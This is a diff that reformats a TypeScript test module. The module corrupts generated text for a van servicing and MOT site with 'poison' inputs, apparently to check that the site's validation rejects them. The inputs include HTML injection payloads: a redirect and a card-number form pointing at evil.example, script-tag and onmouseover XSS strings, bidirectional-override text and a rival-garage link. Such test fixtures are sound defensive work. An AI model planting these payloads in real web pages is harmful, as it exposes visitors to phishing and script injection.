@@ -6,7 +6,9 @@ type Poison = (text: LocationText, name: string) => unknown;
 /** Appends text to the first sentence that the writer composed itself. */
 function addTo(items: readonly Item[], poison: string): Item[] {
   const first = items.findIndex((item) => "text" in item);
-  return items.map((item, i) => (i === first && "text" in item ? { ...item, text: `${item.text} ${poison}` } : item));
+  return items.map((item, i) =>
+    i === first && "text" in item ? { ...item, text: `${item.text} ${poison}` } : item,
+  );
 }
 
 const inParagraph =
@@ -14,21 +16,29 @@ const inParagraph =
   (text) => {
     const [first, ...rest] = text.servicing;
     const [opening = [], ...others] = first?.paragraphs ?? [];
-    return { ...text, servicing: [{ ...first, paragraphs: [addTo(opening, poison), ...others] }, ...rest] };
+    return {
+      ...text,
+      servicing: [{ ...first, paragraphs: [addTo(opening, poison), ...others] }, ...rest],
+    };
   };
 
 const inAnswer =
   (poison: string): Poison =>
   (text) => ({
     ...text,
-    faqs: text.faqs.map((faq, i) => (i === 0 ? { ...faq, answer: addTo(faq.answer, poison) } : faq)),
+    faqs: text.faqs.map((faq, i) =>
+      i === 0 ? { ...faq, answer: addTo(faq.answer, poison) } : faq,
+    ),
   });
 
 const asParagraphs =
   (paragraph: string): Poison =>
   (text) => {
     const replace = (sections: LocationText["mot"]) =>
-      sections.map((section) => ({ ...section, paragraphs: [[{ text: paragraph, basis: ["place.kind"] }]] }));
+      sections.map((section) => ({
+        ...section,
+        paragraphs: [[{ text: paragraph, basis: ["place.kind"] }]],
+      }));
     return { ...text, servicing: replace(text.servicing), mot: replace(text.mot) };
   };
 
@@ -46,8 +56,14 @@ const poisons: readonly Poison[] = [
   inParagraph('<meta http-equiv="refresh" content="0;url=//evil.example">'),
   inParagraph('<form action="//evil.example"><input name="card"></form>'),
   inAnswer("</script><script>alert(1)</script>"),
-  (text) => ({ ...text, servicingMetaTitle: `${text.servicingMetaTitle.slice(0, 30)}" onmouseover="alert(1)` }),
-  (text) => ({ ...text, motMetaDescription: `${text.motMetaDescription.slice(0, 90)}\n\u0000and more` }),
+  (text) => ({
+    ...text,
+    servicingMetaTitle: `${text.servicingMetaTitle.slice(0, 30)}" onmouseover="alert(1)`,
+  }),
+  (text) => ({
+    ...text,
+    motMetaDescription: `${text.motMetaDescription.slice(0, 90)}\n\u0000and more`,
+  }),
   inAnswer("Line\u2028break and paragraph\u2029break."),
   inParagraph("\u202egnicivres nav\u202c"),
   inParagraph("v̷̡̛̖̗a̸̢̧̛̘n̵̨̛̙̜ s̶̡̛̝̞e̷̢̛̟̠ṛ̸̡̛̤v̵̢̛̥̦i̶̧̛̩̪c̷̨̛̫̬ḙ̸̡̛̮"),
@@ -67,8 +83,12 @@ const poisons: readonly Poison[] = [
   ),
   (text) => `\`\`\`json\n${JSON.stringify(text)}\n\`\`\``,
   (text) => ({ ...text, faqs: { question: text.faqs[0]?.question, answer: text.faqs[0]?.answer } }),
-  (text) => ({ ...text, faqs: Array.from({ length: 500 }, (_, i) => text.faqs[i % text.faqs.length]) }),
-  (text, name) => JSON.stringify(text).replaceAll(name, name === "Timbuktu" ? "Samarkand" : "Timbuktu"),
+  (text) => ({
+    ...text,
+    faqs: Array.from({ length: 500 }, (_, i) => text.faqs[i % text.faqs.length]),
+  }),
+  (text, name) =>
+    JSON.stringify(text).replaceAll(name, name === "Timbuktu" ? "Samarkand" : "Timbuktu"),
   inParagraph("Or try [a cheaper garage](https://rival-garages.example/vans) instead."),
 ];
 
